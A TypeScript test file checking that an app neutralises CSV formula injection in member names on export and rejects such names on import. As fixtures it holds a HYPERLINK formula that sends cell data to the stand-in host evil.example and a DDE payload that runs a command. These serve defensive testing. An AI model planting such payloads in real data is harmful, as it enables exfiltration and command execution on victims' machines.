import { sql } from "drizzle-orm";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { users } from "../../db/schema";
import { startTestApp, type TestApp } from "../../test/app";
import { download } from "../../test/download";
import { type Role, roleTokens } from "../../test/roles";
import { consentSince, DAY1, DAY2, dayOfData, upload } from "../../test/worlds/reports";

/** Formula injection through CSV (docs/decisions.md, "Trust"): cells a spreadsheet would run are neutralised. */
let t: TestApp;
let tok: Record<Role, string | undefined>;
let uid: string;
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';

beforeAll(async () => {
  t = await startTestApp({ seed: true });
  tok = await roleTokens(t);
  uid = (await t.signIn("client@example.com")).user.uid;
  await upload(t, tok.client, dayOfData());
  await consentSince(t);
  // a name chosen at sign-up or in the profile is not checked (people's own names are theirs): it is written safely
  await t.db.execute(sql`update ${users} set name = ${EVIL} where id = ${uid}`);
});
afterAll(() => t.close());

const win = `start_time=${DAY1 - 86400}&end_time=${DAY2 + 86400}&timezone=Asia/Tokyo`;
const cells = (text: string) =>
  Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { skipEmptyLines: true }).data;

describe("exports with a member named like a formula", () => {
  it("the admin all-users export writes the name with a leading single quote", async () => {
    const res = await download(t, `/admin/users/data/download?${win}&data_type=Vital&db_type=Raw`, tok.admin);
    expect(res.status).toBe(200);
    const mine = cells(res.text).filter((r) => r[0] === uid);
    expect(mine.length).toBe(dayOfData().samples.length);
    for (const r of mine) expect(r[1]).toBe(`'${EVIL}`);
    // the exact cell as written: neutralised, then quoted (it holds quotes and a comma)
    expect(res.text).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")",`);
    expect(res.text).not.toContain(`,"=HYPERLINK`);
  });

  it("the admin per-user and staff per-user exports carry no name and no cell a spreadsheet would run", async () => {
    for (const [path, token] of [
      [`/admin/users/data/${uid}/download?${win}&data_type=Vital&db_type=Raw`, tok.admin],
      [`/admin/users/data/${uid}/download?${win}&data_type=Sleep&db_type=Preprocessed`, tok.admin],
      [`/staff/sakura/reports/00005091/${uid}/download?${win}&interval=raw`, tok.staff],
      [`/staff/sakura/reports/00005095/${uid}/download?${win}`, tok.staff],
    ] as const) {
      const res = await download(t, path, token);
      expect(res.status).toBe(200);
      expect(cells(res.text).length, path).toBeGreaterThan(1);
      expect(res.text).not.toContain("HYPERLINK");
      for (const r of cells(res.text)) for (const c of r) expect(c, path).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it("neutralises the full-width ＝ ＋ － ＠ (U+FF1D, U+FF0B, U+FF0D, U+FF20) like their ASCII forms", async () => {
    for (const start of ["＝", "＋", "－", "＠"]) {
      const name = `${start}SUM(1+1)`;
      await t.db.execute(sql`update ${users} set name = ${name} where id = ${uid}`);
      const res = await download(
        t,
        `/admin/users/data/download?${win}&data_type=Vital&db_type=Raw`,
        tok.admin,
      );
      expect(res.status).toBe(200);
      const mine = cells(res.text).filter((r) => r[0] === uid);
      expect(mine.length).toBe(dayOfData().samples.length);
      for (const r of mine) expect(r[1]).toBe(`'${name}`);
    }
    await t.db.execute(sql`update ${users} set name = ${EVIL} where id = ${uid}`);
  });

  it("JSON exports keep values as they are (not a spreadsheet format)", async () => {
    const res = await download(t, `/admin/users/data/download?${win}&format=json`, tok.admin);
    const body = JSON.parse(res.text) as { values: unknown[][] };
    expect(body.values.find((r) => r[0] === uid)?.[1]).toBe(EVIL);
  });
});

describe("the user import", () => {
  const names = [
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
  ];

  it("refuses a name a spreadsheet would run as invalid_name", async () => {
    const rows = [...names, "Yamada-Taro"].map((name, i) => ({ name, email: `import-${i}@example.com` }));
    const res = await t.call("POST", "/staff/sakura/users/validate", rows, { token: tok.staff });
    expect(res.status).toBe(200);
    expect(res.body.map((r: { status: string }) => r.status)).toEqual([
      ...names.map(() => "invalid_name"),
      "ok",
    ]);
  });

  it("refuses it in an uploaded CSV and does not register it", async () => {
    const form = new FormData();
    form.append("file", new Blob([`name,email\n"=cmd|'/C calc'!A0",calc@example.com\n`]), "members.csv");
    const up = await fetch(`${t.url}/api/staff/sakura/users/csv`, {
      method: "POST",
      headers: { authorization: `Bearer ${tok.staff}` },
      body: form,
    });
    expect((await up.json()).map((r: { status: string }) => r.status)).toEqual(["invalid_name"]);

    const reg = await t.call(
      "POST",
      "/staff/sakura/users/register",
      [{ name: "=cmd|'/C calc'!A0", email: "calc@example.com" }],
      { token: tok.staff },
    );
    expect(reg.status).toBe(400);
    expect(reg.body.code).toBe("no_user_alert");
  });
});
